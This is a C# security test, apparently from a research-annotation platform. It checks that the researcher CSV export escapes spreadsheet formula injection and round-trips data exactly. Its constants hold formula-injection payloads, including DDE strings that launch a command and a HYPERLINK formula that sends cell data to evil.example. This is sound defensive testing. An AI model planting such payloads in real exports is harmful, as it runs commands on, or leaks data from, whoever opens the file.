using System.Globalization;
using System.IO.Compression;
using System.Net;
using Microsoft.EntityFrameworkCore;
using Pluralist.Core.Model;
using Pluralist.Core.Text;
using Pluralist.Data;
using Pluralist.Data.Bundles;
using Pluralist.Testing;

namespace Pluralist.Web.Tests.Security;

/// <summary>
/// Issue 16, finding 6b: what participants and researchers type (comments, free-text identity answers,
/// prompts) reaches the console's bundle download without a cell a spreadsheet would run as a formula; scores
/// stay numbers; and the download imports back to the same text and exports to the same bytes.
/// </summary>
public sealed class CsvFormulaTests
{
    private const string Comment = "=cmd|' /C calc'!A0";
    private const string Neighbourhood = "=HYPERLINK(\"http://evil.example/?\"&A1,\"see\")";
    private const string Gender = "@SUM(1+9)*cmd|' /C calc'!A0";
    private const string Languages = "-2+3+cmd|' /C calc'!A0";
    private const string Prompt = "+1+cmd|' /C calc'!A0 a plaza with trees";

    [Fact]
    public async Task The_bundle_download_neutralises_typed_text_keeps_numbers_and_round_trips_byte_for_byte()
    {
        await using var server = await AppServer.StartAsync(codes: 1, configure: s =>
        {
            s.AttentionCheckRate = 0;
            s.GoldRate = 0;
        });
        await using (var db = server.Database.CreateContext())
        {
            await db.Prompts.Where(p => p.Id == db.Prompts.Min(x => x.Id)).ExecuteUpdateAsync(s => s.SetProperty(p => p.Text, Prompt));
        }

        var participant = await server.JoinAsync(form =>
        {
            foreach (var (marker, value) in new[] { ("neighbourhood", Neighbourhood), ("gender", Gender), ("languages", Languages) })
            {
                form[$"consent-{marker}"] = "true";
                form[$"value-{marker}"] = value;
            }
        });
        var task = (await participant.NextTaskAsync())!;
        var sent = await participant.SubmitAsync(task, new
        {
            clientRequestId = "formula-1",
            scores = task.Criteria.Select((c, i) => new { criterion = c, score = (double?)new[] { -0.5, 1, -1 }[i] }).ToArray(),
            comment = Comment,
            clientDurationMs = 1200,
        });
        Assert.Equal(HttpStatusCode.OK, sent.StatusCode);

        var researcher = await Staff.SignInAsync(server, "lead@example.org", Role.Researcher);
        var download = await researcher.GetAsync("/console/studies/livs-default/export.zip");
        Assert.Equal(HttpStatusCode.OK, download.StatusCode);
        var work = Path.Combine(Path.GetTempPath(), "pluralist-formula-" + Guid.NewGuid().ToString("N"));
        Directory.CreateDirectory(work);
        try
        {
            var zip = Path.Combine(work, "download.zip");
            await File.WriteAllBytesAsync(zip, await download.Content.ReadAsByteArrayAsync());
            var downloaded = new SortedDictionary<string, byte[]>(StringComparer.Ordinal);
            using (var archive = ZipFile.OpenRead(zip))
            {
                foreach (var entry in archive.Entries.Where(e => e.Name.EndsWith(".csv", StringComparison.Ordinal)))
                {
                    using var stream = entry.Open();
                    using var copy = new MemoryStream();
                    await stream.CopyToAsync(copy);
                    downloaded[entry.Name] = copy.ToArray();
                }
            }

            // No field starts a formula unless it is a plain number; each payload is there, behind an apostrophe.
            var fields = downloaded.SelectMany(f => CsvReader.ReadAll(new StringReader(StrictUtf8.Encoding.GetString(f.Value)), f.Key)
                .SelectMany(r => r.Fields.Select(x => (File: f.Key, x.Value)))).ToList();
            Assert.All(fields, f => Assert.False(f.Value.Length > 0 && "=+-@\t\r".Contains(f.Value[0], StringComparison.Ordinal)
                && !double.TryParse(f.Value, NumberStyles.Float, CultureInfo.InvariantCulture, out _), $"{f.File}: {f.Value}"));
            Assert.Contains(("annotations.csv", "'" + Comment), fields);
            Assert.Contains(("participants.csv", "'" + Neighbourhood), fields);
            Assert.Contains(("participants.csv", "'" + Gender), fields);
            Assert.Contains(("participants.csv", "'" + Languages), fields);
            Assert.Contains(("prompts.csv", "'" + Prompt), fields);
            Assert.Contains(("annotations.csv", "-0.5"), fields);
            Assert.Contains(("annotations.csv", "-1"), fields);

            // Our own import reads the text back as typed, and exporting it again gives the same bytes.
            await using var target = await TestDatabase.CreateAsync(DatabaseProvider.Sqlite);
            var targetData = new DataDirectory(Path.Combine(work, "data"));
            await using (var db = target.CreateContext())
            using (var bundle = BundleReader.Read(zip))
            {
                await StudyImporter.ImportAsync(db, targetData, bundle);
            }

            await using (var db = target.CreateContext())
            {
                Assert.Equal(Comment, (await db.Annotations.SingleAsync()).Comment);
                Assert.Contains(Prompt, await db.Prompts.Select(p => p.Text).ToListAsync());
                Assert.Equal([Languages, Neighbourhood, Gender], (await db.IdentityAnswers.Select(a => a.Value!).ToListAsync()).Order(StringComparer.Ordinal));
            }

            var again = Path.Combine(work, "again");
            await using (var db = target.CreateContext())
            using (var bundle = await StudyExporter.LoadAsync(db, targetData, "livs-default"))
            {
                BundleWriter.Write(bundle, again, zip: false);
            }

            foreach (var (name, bytes) in downloaded)
            {
                var exported = await File.ReadAllBytesAsync(Path.Combine(again, name));
                Assert.True(bytes.AsSpan().SequenceEqual(exported), $"{name} differs after import and export");
            }
        }
        finally
        {
            Directory.Delete(work, recursive: true);
        }
    }
}
